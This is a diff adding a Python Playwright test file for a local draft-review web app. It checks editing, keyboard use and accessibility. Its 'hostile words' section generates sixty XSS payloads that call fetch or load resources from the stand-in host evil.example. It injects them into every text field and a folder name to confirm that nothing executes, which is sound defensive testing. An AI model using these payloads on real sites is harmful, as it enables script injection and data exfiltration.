@@ -1,0 +1,240 @@
+"""The pages in a real browser: the whole round, hostile words, and what a screen reader needs."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, expect
+
+from tests.support.browser import NARROW, WIDE, Tab, axe_script, chromium, serving
+from tests.support.command import Command
+from tests.web.conftest import LOG, SLUG, entry
+
+pytestmark = pytest.mark.slow
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with chromium() as found:
+        yield found
+
+
+def test_the_whole_round_open_click_a_mark_edit_see_it_go_accept_undo(
+    drafted: Command, browser: Browser
+) -> None:
+    with serving(drafted) as address:
+        tab = Tab(browser, address)
+        page = tab.page
+        page.keyboard.press("j")
+        page.keyboard.press("Enter")
+        page.wait_for_selector("mark.doubt")
+        page.locator("mark.doubt").first.click()
+        page.wait_for_selector("#boxes .words")
+        assert "lit" in (page.locator("mark.doubt").first.get_attribute("class") or "")
+        page.keyboard.press("e")
+        text = page.locator("#text").input_value()
+        assert text.encode() == entry(drafted).read_bytes()
+        page.locator("#text").fill(text.replace("67.9", "61.4"))
+        expect(page.locator("mark.doubt")).to_have_count(0)
+        expect(page.locator("#kept")).to_have_text("未保存")
+        page.keyboard.press("Control+s")
+        expect(page.locator("#kept")).to_have_text("")
+        assert entry(drafted).read_bytes() == text.replace("67.9", "61.4").encode()
+        page.keyboard.press("Escape")
+        page.keyboard.press("a")
+        expect(page.locator("#diff")).to_contain_text("61.4")
+        assert (drafted.folder / "log.md").read_text() == LOG
+        page.locator("#put").dblclick()
+        page.wait_for_url(f"{tab.origin}/")
+        expect(page.locator("#message")).to_contain_text("accepted")
+        assert (drafted.folder / "log.md").read_text().count("《Sparrow") == 1
+        page.keyboard.press("u")
+        page.wait_for_selector(".drafts a")
+        assert (drafted.folder / "log.md").read_text() == LOG
+        assert tab.left == []
+        assert tab.troubles == []
+
+
+def test_keys_lines_and_the_paper_are_there_without_a_mouse(
+    drafted: Command, browser: Browser
+) -> None:
+    with serving(drafted) as address:
+        tab = Tab(browser, address)
+        page = tab.page
+        tab.open(SLUG)
+        for _ in range(2):
+            page.keyboard.press("j")
+        page.wait_for_selector("#boxes .words")
+        assert page.evaluate("document.activeElement.className").startswith("point")
+        page.keyboard.press("n")
+        assert "doubt" in page.evaluate("document.activeElement.className")
+        page.keyboard.press("]")
+        expect(page.locator("#number")).to_have_value("2")
+        page.keyboard.press("/")
+        page.keyboard.type("LongRead")
+        page.keyboard.press("Enter")
+        expect(page.locator("#hits")).to_contain_text("第 1 /")
+        page.keyboard.press("Escape")
+        page.keyboard.press("e")
+        page.locator("#text").evaluate("node => node.setSelectionRange(0, 0)")
+        line = page.locator("#lines button").first
+        words = line.inner_text()
+        line.focus()
+        page.keyboard.press("Enter")
+        assert page.locator("#text").input_value().startswith(f"“{words}” (p. ")
+        page.keyboard.press("?")
+        expect(page.locator("#help")).to_be_visible()
+        page.keyboard.press("Escape")
+        expect(page.locator("#help")).to_be_hidden()
+        assert tab.troubles == []
+
+
+def test_another_programs_save_is_told_and_what_was_typed_comes_back(
+    drafted: Command, browser: Browser
+) -> None:
+    with serving(drafted) as address:
+        tab = Tab(browser, address)
+        page = tab.page
+        tab.open(SLUG)
+        page.keyboard.press("e")
+        mine = page.locator("#text").input_value() + "mine"
+        page.locator("#text").fill(mine)
+        theirs = entry(drafted).read_text("utf-8") + "theirs\n"
+        entry(drafted).write_text(theirs, "utf-8")
+        page.keyboard.press("Control+s")
+        page.locator("#load").click()
+        expect(page.locator("#text")).to_have_value(theirs)
+        assert entry(drafted).read_text("utf-8") == theirs
+        page.locator("#bring-back").click()
+        expect(page.locator("#text")).to_have_value(mine)
+
+
+def test_axe_finds_nothing_serious_and_nothing_is_wider_than_the_window(
+    drafted: Command, browser: Browser
+) -> None:
+    script = axe_script()
+    with serving(drafted) as address:
+        tab = Tab(browser, address)
+        page = tab.page
+        found = _serious(tab, script)
+        tab.open(SLUG)
+        page.keyboard.press("n")
+        page.wait_for_selector("#boxes .words")
+        page.keyboard.press("e")
+        for width, height in (WIDE, NARROW):
+            page.set_viewport_size({"width": width, "height": height})
+            assert page.evaluate("document.documentElement.scrollWidth") <= width
+            for scheme in ("light", "dark"):
+                page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
+                found += _serious(tab, script)
+        page.keyboard.press("Escape")
+        page.keyboard.press("a")
+        page.wait_for_selector("#change[open]")
+        found += _serious(tab, script)
+    assert found == []
+
+
+def _serious(tab: Tab, script: str) -> list[str]:
+    tab.page.evaluate(script)
+    run = "axe.run(document).then(found => JSON.stringify(found.violations))"
+    violations = json.loads(tab.page.evaluate(run))
+    return [
+        f"{one['id']}: {one['nodes'][0]['html'][:200]}"
+        for one in violations
+        if one["impact"] in ("serious", "critical")
+    ]
+
+
+# ── hostile words ──
+
+CALLS = ["alert(1)", "document.body.dataset.owned=1", "fetch('https://evil.example/')"]
+SHAPES = [
+    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
+    "\"><script>{}</script>", "'><img src=x onerror={}>", "</textarea><script>{}</script>",
+    "</title><script>{}</script>", "<a href=\"javascript:{}\">x</a>", "[x](javascript:{})",
+    "[x](data:text/html,<script>{}</script>)", "![x](https://evil.example/a.png?{})",
+    "<iframe srcdoc='<script>{}</script>'>", "<math><mtext><script>{}</script>", "<details open ontoggle={}>",
+    "<style>@import 'https://evil.example/{}'</style>", "<link rel=stylesheet href=https://evil.example/{}>",
+    "<body onload={}>", "`<script>{}</script>`", "{{% raw %}}{}{{{{ 7*7 }}}}",
+]  # fmt: skip
+PAYLOADS = [shape.format(call) for shape in SHAPES for call in CALLS]
+
+
+def test_sixty_payloads_in_every_field_run_nothing_and_ask_nothing_of_anybody(
+    drafted: Command, browser: Browser
+) -> None:
+    assert len(PAYLOADS) == 60
+    folder = entry(drafted).parent
+    for name in ("paper", "draft", "report", "text"):
+        path = folder / f"{name}.json"
+        kept = json.loads(path.read_text("utf-8"))
+        _poison(kept["content"], iter(PAYLOADS * 200), name)
+        path.write_text(json.dumps(kept), "utf-8")
+    hostile = "《" + " ".join(PAYLOADS[:5]) + "》\n\n2024.1 " + PAYLOADS[0] + "，要点：\n\n"
+    hostile += "\n".join(f"{n}. {payload} 67.9" for n, payload in enumerate(PAYLOADS, 1))
+    entry(drafted).write_text(hostile + "\n\n" + "\n\n".join(PAYLOADS), "utf-8")
+    named = folder.with_name("a<img src=x onerror=alert(1)>")
+    folder.rename(named)
+    with serving(drafted) as address:
+        tab = Tab(browser, address)
+        tab.page.wait_for_selector(".drafts a")
+        tab.page.locator(".drafts a").first.click()
+        tab.page.wait_for_selector("#entry p")
+        assert "alert(1)" in tab.page.locator("#entry").inner_text()
+        for key in ("j", "n", "n", "e", "Escape", "a"):
+            tab.page.keyboard.press(key)
+        tab.page.wait_for_selector("#change[open], #message.trouble")
+        tab.page.wait_for_timeout(500)
+        assert tab.page.evaluate("document.body.dataset.owned") is None
+        assert tab.left == []
+        assert [one for one in tab.troubles if one == "1" or "evil" in one] == []
+
+
+def _poison(value: object, payloads: Iterator[str], name: str) -> None:
+    """Put payloads into every text that a record may have, but where only some words may stand."""
+    if name == "text" and isinstance(value, dict):
+        page = {"page": 1, "reason": next(payloads), "text": next(payloads)}
+        value["hidden"] = [page]
+        value["warnings"] = [next(payloads) for _ in range(3)]
+        return
+    items = (
+        value.items()
+        if isinstance(value, dict)
+        else enumerate(value)
+        if isinstance(value, list)
+        else ()
+    )
+    free = {
+        "title",
+        "authors",
+        "abstract",
+        "comment",
+        "journal_ref",
+        "label",
+        "text",
+        "about",
+        "kind_",
+        "weakness",
+    }
+    free |= {"words", "message", "nearest", "quote", "drafter", "topic", "nickname", "affiliations"}
+    for key, one in list(items):
+        if isinstance(one, str) and key in free:
+            value[key] = next(payloads)  # type: ignore[index]
+        elif isinstance(one, list) and key in free and all(isinstance(word, str) for word in one):
+            value[key] = [next(payloads) for _ in range(3)]  # type: ignore[index]
+        else:
+            _poison(one, payloads, name)
+
+
+def test_what_a_page_hides_is_boxed_with_its_reason(drafted: Command, browser: Browser) -> None:
+    path = entry(drafted).with_name("text.json")
+    kept = json.loads(path.read_text("utf-8"))
+    words = kept["content"]["text"][:40]
+    kept["content"]["hidden"] = [{"page": 1, "reason": "white on white", "text": words}]
+    path.write_text(json.dumps(kept), "utf-8")
+    with serving(drafted) as address:
+        tab = Tab(browser, address)
+        tab.open(SLUG)
+        expect(tab.page.locator("#boxes .hidden .reason").first).to_contain_text("white on white")
